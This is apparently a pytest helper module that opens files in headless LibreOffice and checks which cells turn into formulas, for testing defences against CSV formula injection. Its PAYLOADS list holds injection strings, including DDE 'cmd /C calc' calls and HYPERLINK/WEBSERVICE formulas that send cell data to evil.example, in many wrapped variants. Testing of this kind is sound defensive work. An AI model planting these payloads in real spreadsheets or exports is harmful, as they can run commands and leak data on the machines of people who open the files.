"""LibreOffice without a window: what a person finds in the cells of a file, and which of them calculate."""

import os
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import pytest

PROGRAM = shutil.which("soffice")
needed = pytest.mark.skipif(PROGRAM is None, reason="soffice is not installed (Debian: libreoffice-calc)")

_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
_BLANKS = {f"{_TEXT}s": " ", f"{_TEXT}tab": "\t", f"{_TEXT}line-break": "\n"}

_BASES = (
    "=1+1",
    "==1+1",
    "=-1",
    "={1;2}",
    "=A1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("https://evil.example/")',
    "=1+1;=2+2",
    "+1+1",
    "+A1*2",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
)
_WRAPS = (
    *("{}", " {}", "\t{}", "\r{}", "\n{}", "\u00a0{}", '"{}', '{}"', "a;{}", "a;{};b"),
    *("a; {};b", 'a";{}', 'a;"{}', "a\t{}", "a\n{}", "a\r\n{}", "a,{}", "\ufeff{}"),
)
# Texts of which a spreadsheet could make a formula, alone and behind what divides cells in some country.
PAYLOADS = tuple(wrap.format(base) for base in _BASES for wrap in _WRAPS)


@dataclass(frozen=True)
class Cell:
    """A cell as LibreOffice holds it: what is read in it, and its formula, if it has one."""

    text: str
    formula: str | None


def _text(element: ElementTree.Element) -> str:
    inner = "".join(_text(child) + (child.tail or "") for child in element)
    return _BLANKS.get(element.tag, "") + (element.text or "") + inner


def _cells(row: ElementTree.Element) -> list[Cell]:
    cells: list[Cell] = []
    for cell in row.findall(f"{_TABLE}table-cell"):
        text = "\n".join(_text(part) for part in cell.findall(f"{_TEXT}p"))
        # Equal neighbours are written once; the empty rest of a sheet is one cell of thousands.
        times = int(cell.get(f"{_TABLE}number-columns-repeated", 1)) if text else 1
        cells += [Cell(text, cell.get(f"{_TABLE}formula"))] * times
    return cells


def opened(paths: list[Path], folder: Path, dividers: str = ",") -> list[list[list[Cell]]]:
    """Return the rows of each file: all workbooks, or all CSV files read with `dividers` and with formulas let in.

    One start of LibreOffice opens them all; `folder` keeps its profile.
    """
    assert PROGRAM is not None
    environment = {**os.environ, "HOME": str(folder)}
    # Field divider, quote, UTF-8, first line; the last token lets LibreOffice calculate what looks like a formula.
    reading = [
        f"--infilter=CSV:{'/'.join(str(ord(one)) for one in dividers)},34,76,1,,0,false,true,false,false,false,0,true"
    ]
    command = [PROGRAM, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"]
    command += reading if paths[0].suffix == ".csv" else []
    command += ["--convert-to", "fods", "--outdir", str(folder), *map(str, paths)]
    subprocess.run(command, check=True, capture_output=True, timeout=120, env=environment)
    trees = [ElementTree.parse(folder / f"{path.stem}.fods") for path in paths]
    return [[_cells(row) for row in tree.iter(f"{_TABLE}table-row")] for tree in trees]


def formulas(rows: list[list[Cell]]) -> list[Cell]:
    """Return the cells that calculate."""
    return [cell for row in rows for cell in row if cell.formula is not None]


def squeezed(text: str) -> str:
    """Return a text without blanks and line ends, which spreadsheets write their own way."""
    return "".join(text.split()).replace("\ufeff", "")
